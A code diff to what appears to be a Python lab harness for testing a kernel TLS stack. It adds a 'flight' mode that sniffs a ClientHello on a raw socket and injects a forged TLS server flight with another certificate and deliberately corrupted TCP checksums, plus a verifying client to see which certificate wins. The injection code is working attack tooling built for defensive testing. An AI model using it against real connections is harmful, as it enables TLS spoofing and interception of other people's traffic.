@@ -12,6 +12,10 @@ and in time.
           the path sends around the real segments (--mode: csum_hello, overlap, urgent,
           rst_csum, rst_window, syn, none). Prints one JSON line: {"sport", "done",
           "cert_sha256"}.
+  flight  (namespace A, beside a serve --delay) waits for one connection's ClientHello and
+          answers it first, with bad TCP checksums, by a server flight built with another
+          certificate (--cert/--key), as a malicious server or an attacker next to it would
+  client  a kernel TLS 1.2 client that verifies the chain (--ca); prints {"ok", "cert_sha256"}
 """
 import argparse
 import hashlib
@@ -57,6 +61,7 @@ def cmd_serve(a):
             c, _ = ls.accept()
         except socket.timeout:
             continue
+        time.sleep(a.delay)  # room for `flight` to answer first
         seen.clear()
         ok = False
         c.settimeout(5)
@@ -214,6 +219,78 @@ def cmd_attack(a):
     return 0 if result["done"] else 1
 
 
+def cmd_flight(a):
+    """Sniff the ClientHello to --port on --iface, answer it with a forged flight, bad checksums."""
+    sctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
+    sctx.maximum_version = ssl.TLSVersion.TLSv1_2
+    sctx.set_ciphers("DEFAULT:@SECLEVEL=0")
+    sctx.load_cert_chain(a.cert, a.key)
+    # ETH_P_ALL: only those taps see the frames this host sends (the SYN-ACK)
+    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
+    sock.bind((a.iface, 0))
+    sock.settimeout(0.2)
+    end = time.monotonic() + a.max_secs
+    synack = None
+    while time.monotonic() < end:
+        try:
+            fr, addr = sock.recvfrom(70000)
+        except socket.timeout:
+            continue
+        ip = fr[14:]
+        if fr[12:14] != b"\x08\x00" or len(ip) < 40 or ip[9] != 6:
+            continue
+        ihl = (ip[0] & 15) * 4
+        t = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
+        sp, dp, seq, ack, off, flags = struct.unpack("!HHIIBB", t[:14])
+        data = t[(off >> 4) * 4:]
+        if sp == a.port and flags & (SYN | ACK) == SYN | ACK:
+            synack = (fr[:6], fr[6:12], ip[12:16], ip[16:20], sp, dp, seq)
+        elif synack and dp == a.port and sp == synack[5] and data[:1] == b"\x16":
+            dmac, smac, src, dst, sport, dport, sseq = synack
+            inc, out = ssl.MemoryBIO(), ssl.MemoryBIO()
+            srv = sctx.wrap_bio(inc, out, server_side=True)
+            inc.write(data)
+            try:
+                srv.do_handshake()
+            except ssl.SSLWantReadError:
+                pass
+            fake = out.read()
+            for i in range(0, len(fake), MSS):
+                part = fake[i:i + MSS]
+                tcp = struct.pack("!HHIIBBHHH", sport, dport, (sseq + 1 + i) & 0xFFFFFFFF,
+                                  (seq + len(data)) & 0xFFFFFFFF, 5 << 4, ACK | PSH, 65535, 0,
+                                  0) + part
+                c = csum(src + dst + struct.pack("!BBH", 0, 6, len(tcp)) + tcp) ^ 0x0F0F
+                tcp = tcp[:16] + struct.pack("!H", c) + tcp[18:]
+                iph = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 1, 0x4000, 64, 6, 0,
+                                  src, dst)
+                iph = iph[:10] + struct.pack("!H", csum(iph)) + iph[12:]
+                # to the client: its MAC is where the SYN-ACK went
+                sock.send(dmac + smac + b"\x08\x00" + iph + tcp)
+            print(json.dumps({"forged_bytes": len(fake)}))
+            return 0
+    print(json.dumps({"forged_bytes": 0}))
+    return 1
+
+
+def cmd_client(a):
+    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
+    ctx.maximum_version = ssl.TLSVersion.TLSv1_2
+    ctx.load_verify_locations(a.ca)
+    res = {"ok": False, "cert_sha256": None}
+    try:
+        with socket.create_connection((a.dst, a.port), timeout=5) as s:
+            with ctx.wrap_socket(s, server_hostname=a.sni) as t:
+                res["cert_sha256"] = hashlib.sha256(t.getpeercert(binary_form=True)).hexdigest()
+                t.sendall(b"GET / HTTP/1.0\r\n\r\n")
+                t.recv(100)
+                res["ok"] = True
+    except (ssl.SSLError, OSError) as e:
+        res["error"] = str(e)
+    print(json.dumps(res))
+    return 0 if res["ok"] else 1
+
+
 def main():
     p = argparse.ArgumentParser()
     sub = p.add_subparsers(dest="cmd", required=True)
@@ -224,6 +301,18 @@ def main():
     s.add_argument("--key", required=True)
     s.add_argument("--out", required=True)
     s.add_argument("--duration", type=float, default=120)
+    s.add_argument("--delay", type=float, default=0)
+    f = sub.add_parser("flight")
+    f.add_argument("--iface", default="veth0")
+    f.add_argument("--port", type=int, default=443)
+    f.add_argument("--cert", required=True)
+    f.add_argument("--key", required=True)
+    f.add_argument("--max-secs", type=float, default=10)
+    c = sub.add_parser("client")
+    c.add_argument("--dst", required=True)
+    c.add_argument("--port", type=int, default=443)
+    c.add_argument("--sni", required=True)
+    c.add_argument("--ca", required=True)
     t = sub.add_parser("attack")
     t.add_argument("--iface", default="veth0")
     t.add_argument("--src", required=True)
@@ -235,7 +324,8 @@ def main():
     t.add_argument("--mode", default="none")
     t.add_argument("--max-secs", type=float, default=8)
     a = p.parse_args()
-    sys.exit(cmd_serve(a) if a.cmd == "serve" else cmd_attack(a))
+    sys.exit({"serve": cmd_serve, "attack": cmd_attack, "flight": cmd_flight,
+              "client": cmd_client}[a.cmd](a))
 
 
 if __name__ == "__main__":
